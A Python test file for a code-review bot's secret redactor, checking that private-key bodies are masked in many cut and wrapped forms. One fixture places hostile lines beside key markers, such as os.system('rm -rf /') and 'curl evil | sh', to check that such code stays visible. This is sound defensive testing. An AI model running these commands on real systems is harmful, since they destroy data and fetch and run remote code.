"""Private keys lose every line of their body, whole or in parts."""

from __future__ import annotations

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from reviewbot.core.safety.redact import FileRedaction, redact_file, redact_text
from tests.support.planted_secrets import BEGIN, BODY, END, KEY, File, hunk, redacted


def test_a_whole_key_loses_its_body_and_keeps_its_frame() -> None:
    text = "\n".join(["k = '''", BEGIN, *BODY, END, "'''"])
    assert redact_text(text) == "\n".join(["k = '''", BEGIN, *[KEY] * 5, END, "'''"])


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        # Cut at the end, at the beginning, and down to a short last line.
        ([BEGIN, *BODY[:2]], [BEGIN, KEY, KEY]),
        ([BEGIN, BODY[0], "QUJD"], [BEGIN, KEY, KEY]),
        ([BEGIN, BODY[0], "QUJD", END], [BEGIN, KEY, KEY, END]),
        ([BEGIN, BODY[0], BODY[1][:20], "break", "x = 1"], [BEGIN, KEY, KEY, "break", "x = 1"]),
        ([*BODY[2:], END, "x"], [*[KEY] * 3, END, "x"]),
        ([BODY[-1], END], [KEY, END]),
        ([BODY[0], "QUJD", END], [KEY, KEY, END]),
        (["x = 1", "", BODY[0], END], ["x = 1", "", KEY, END]),
        # Encrypted keys have headers; OpenPGP has a checksum.
        (
            [BEGIN, "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,00", "", BODY[0], END],
            [BEGIN, "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,00", "", KEY, END],
        ),
        (
            ["-----BEGIN PGP " + "PRIVATE KEY BLOCK-----", "", BODY[0], "=aB3d"],
            ["-----BEGIN PGP " + "PRIVATE KEY BLOCK-----", "", KEY, KEY],
        ),
        # In source code, in YAML, in a comment.
        (
            [f'"{BEGIN}\\n" +', f'  "{BODY[0]}\\n" +', f'  b"{BODY[1]}\\n",'],
            [f'"{BEGIN}\\n" +', f'  "{KEY}\\n" +', f'  b"{KEY}\\n",'],
        ),
        ([f"key: |\n  {BEGIN}", f"  {BODY[0]}"], [f"key: |\n  {BEGIN}", f"  {KEY}"]),
        ([f"# {BEGIN}", f"# {BODY[0]}", f"// {BODY[1]}"], [f"# {BEGIN}", f"# {KEY}", f"// {KEY}"]),
        # On one line.
        (
            [f'"key": "{BEGIN}\\n{BODY[0]}\\n{BODY[1]}\\n{END}\\n"'],
            [f'"key": "{BEGIN}{KEY}{END}\\n"'],
        ),
        ([f'"{BEGIN}\\n{BODY[0]}\\n{BODY[1]}"'], [f'"{BEGIN}{KEY}"']),
        ([f"{BEGIN}{BODY[0]}{END}{BEGIN}{BODY[1]}"], [f"{BEGIN}{KEY}{END}{BEGIN}{KEY}"]),
        # A placeholder that someone wrote into the block does not end it.
        ([BEGIN, BODY[0], KEY, BODY[1]], [BEGIN, KEY, KEY, KEY]),
        ([BODY[0], KEY, END], [KEY, KEY, END]),
    ],
)
def test_a_cut_or_wrapped_key_loses_every_line_of_its_body(
    lines: list[str], expected: list[str]
) -> None:
    result = redact_text("\n".join(lines))
    assert result == "\n".join(expected)
    assert redact_text(result) == result


def test_the_middle_of_a_key_goes_in_a_file_that_is_named_like_one() -> None:
    text = "\n".join(f" {line}" for line in BODY[:3])
    for path in ("certs/server.pem", "id_rsa", "deploy/id_ed25519", "a.key"):
        assert redacted(File((hunk(text),), path)) == [[KEY] * 3]
    for path in ("a.py", "id_rsa.pub", "server.pem.md"):
        assert redacted(File((hunk(text),), path)) == [BODY[:3]]
    public = " -----BEGIN CERTIFICATE-----\n" + text + "\n -----END CERTIFICATE-----\n " + BODY[0]
    assert redacted(File((hunk(public), hunk(text)), "a.pem")) == [
        ["-----BEGIN CERTIFICATE-----", *BODY[:3], "-----END CERTIFICATE-----", KEY],
        [KEY] * 3,
    ]


def test_nothing_reaches_from_one_hunk_into_the_next() -> None:
    file = File((hunk(f" {BEGIN}"), hunk(f" {BODY[0]}", section="\x01")))
    assert redact_file(file) == FileRedaction()


def test_a_key_is_one_secret_at_its_first_added_line() -> None:
    rows = [f" {BEGIN}", f" {BODY[0]}", f"-{BODY[1]}", f"+{BODY[2]}", f"+{BODY[3]}", f" {END}"]
    result = redact_file(File((hunk("\n".join(rows)),)))
    assert sorted(result.replacements) == [(0, 1), (0, 2), (0, 3), (0, 4)]
    assert [(s.rule, s.line, s.end, s.kind) for s in result.secrets] == [
        ("private-key", 1, 2, "context"),
        ("private-key", 3, 4, "added"),
    ]


def test_parts_of_keys_that_do_not_follow_each_other_are_secrets_of_their_own() -> None:
    rows = [f"+{BODY[0]}", f"+{BODY[1]}", "+-- another --", f"+{BODY[2]}"]
    secrets = redact_file(File((hunk("\n".join(rows)),), "a.pem")).secrets
    assert [(s.line, s.end) for s in secrets] == [(0, 1), (3, 3)]


@pytest.mark.parametrize("line", ["A" + "+" * 200_000 + "!", "\\n" * 100_000, "A" + "\\" * 200_000])
def test_a_hostile_line_of_a_key_file_is_judged_quickly(line: str) -> None:
    assert redacted(File((hunk(f"+{line}\n {BODY[0]}"),), "a.pem")) == [[line, KEY]]


def test_headers_that_begin_keys_themselves_are_read_once() -> None:
    header = "Comment: -----BEGIN RSA PRIVATE" + " KEY-----"
    text = "\n".join([*[header] * 10_000, "Version: 1", "", BODY[0]])
    assert redact_text(text) == text.replace(BODY[0], KEY)


HIDDEN_CODE = {
    "call": [f"# {BEGIN}", 'os.system("rm -rf /")'],
    "assignment": [f"# {BEGIN}", "isAdministrator=userIsAuthenticatedOrNotReallyTrue"],
    "method": [f"# {BEGIN}", "deleteAllTheUsersFromTheProductionDatabaseNow"],
    "command": [f"# {BEGIN}", "/usr/local/share/installer/payloads/persistence/run"],
    "after a line of base64": [f"# {BEGIN}", f"# {BODY[0]}", "dropAllTablesNow", "/opt/run/it"],
    "between base64 and END": [f"# {BEGIN}", f"# {BODY[0]}", "exit", f"# {END}"],
    "empty variable": [f"# {BEGIN}", f"# {BODY[0]}", "PATH=", f"# {END}"],
    "before END": ["isAdministrator=userIsAuthenticatedOrNotReallyTrue", f"# {END}"],
    "between marks": [f'a = "{BEGIN}"; os.system("curl evil | sh"); b = "{END}"'],
    "expression between marks": [f'x = "{BEGIN}" + deleteEverything + "{END}"'],
    "behind BEGIN": [f"# {BEGIN} dropAllTheTables from database"],
    "behind a key": [f"{BEGIN} {BODY[0]} deleteEverything", "x"],
}


@pytest.mark.parametrize("lines", HIDDEN_CODE.values(), ids=HIDDEN_CODE.keys())
@pytest.mark.parametrize("path", ["run.sh", "deploy.key"])
def test_code_beside_the_frame_of_a_key_is_shown(lines: list[str], path: str) -> None:
    file = File((hunk("\n".join(f"+{line}" for line in lines)),), path)
    shown = [line.replace(BODY[0], KEY) for line in lines]
    assert redacted(file) == [shown]


@pytest.mark.parametrize("lines", HIDDEN_CODE.values(), ids=HIDDEN_CODE.keys())
def test_a_masked_line_is_always_a_secret(lines: list[str]) -> None:
    result = redact_file(File((hunk("\n".join(f"+{line}" for line in lines)),)))
    assert {line for _, line in result.replacements} <= {
        number for one in result.secrets for number in range(one.line, one.end + 1)
    }


def made_keys() -> list[str]:
    """New keys of every form in which OpenSSL and OpenSSH write them."""
    keys: list[ed25519.Ed25519PrivateKey | ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey] = [
        ed25519.Ed25519PrivateKey.generate() for _ in range(10)
    ]
    keys += [ec.generate_private_key(ec.SECP256R1()) for _ in range(10)]
    keys += [ec.generate_private_key(ec.SECP521R1()) for _ in range(10)]
    keys += [rsa.generate_private_key(65537, 2048) for _ in range(2)]
    forms = {
        "PKCS8": serialization.PrivateFormat.PKCS8,
        "OpenSSH": serialization.PrivateFormat.OpenSSH,
        "PKCS1": serialization.PrivateFormat.TraditionalOpenSSL,
    }
    return [
        key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption()).decode()
        for key in keys
        for name, form in forms.items()
        if name != "PKCS1" or not isinstance(key, ed25519.Ed25519PrivateKey)
    ]


@pytest.mark.slow
def test_every_line_of_a_real_key_goes_however_much_of_it_is_shown() -> None:
    for key in made_keys():
        lines = key.strip().split("\n")
        third = len(lines) // 3
        for part in (lines, lines[: 2 * third + 1], lines[third:], ["\\n".join(lines)]):
            result = redact_text("\n".join(part))
            assert [line for line in lines[1:-1] if line in result] == []
